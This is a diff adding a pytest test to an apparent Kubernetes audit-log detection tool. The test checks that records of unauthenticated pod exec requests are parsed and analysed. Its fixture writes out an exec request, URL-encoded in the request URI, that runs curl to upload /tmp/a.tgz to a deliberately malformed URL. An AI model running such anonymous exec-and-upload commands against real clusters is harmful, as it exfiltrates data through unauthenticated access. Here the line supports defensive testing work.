@@ -209,3 +209,25 @@ def msgspec_replace_args(event: object, argv: tuple[str, ...]) -> object:
         event,  # type: ignore[type-var]
         process=msgspec.structs.replace(process, args=argv),
     )
+
+
+def test_an_unauthenticated_pods_exec_record_is_read_and_analysed_by_detect(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fixtures: Path
+) -> None:
+    record = json.loads((fixtures / "k8s_audit" / "audit.jsonl").read_text().splitlines()[0])
+    record["user"] = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
+    record["requestURI"] = (
+        "/api/v1/namespaces/payments/pods/db-0/exec?command=curl&command=-T"
+        "&command=%2Ftmp%2Fa.tgz&command=http%3A%2F%2F%5Boops&container=db&stdout=true"
+    )
+    anonymous = dict(record, auditID="6e1d9f3b-4c8a-4d2f-8b7e-3a5c9f2d8b01")
+    del anonymous["user"]
+    path = tmp_path / "audit.jsonl"
+    path.write_text(json.dumps(record) + "\n" + json.dumps(anonymous) + "\n")
+
+    code = main(["detect", "--json", str(path)])
+
+    err = capsys.readouterr().err
+    assert code == 0
+    assert "read 2 records" in err
+    assert "0 skipped" in err
